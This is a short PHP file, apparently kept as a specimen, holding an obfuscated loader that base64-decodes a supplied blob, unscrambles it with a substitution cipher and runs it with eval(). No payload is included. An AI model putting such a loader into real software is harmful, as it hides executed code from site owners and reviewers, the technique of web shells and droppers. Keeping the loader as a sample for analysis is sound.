<?php
// sample: the same loader kept apart from its blob ($_X is set by the includer)
$_X=base64_decode($_X);$_X=strtr($_X,'TjtM5 X6V93pHWSiU4B}[NckDgxw.Ad{CKReZ<n]Iq=fhuv0>7mYlF1br2a
QOJs/8LoyEzPG','abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789=[]{}<>/. 
');$_R=str_replace('__FILE__',"'".$_F."'",$_X);eval($_R);$_R=0;$_X=0;
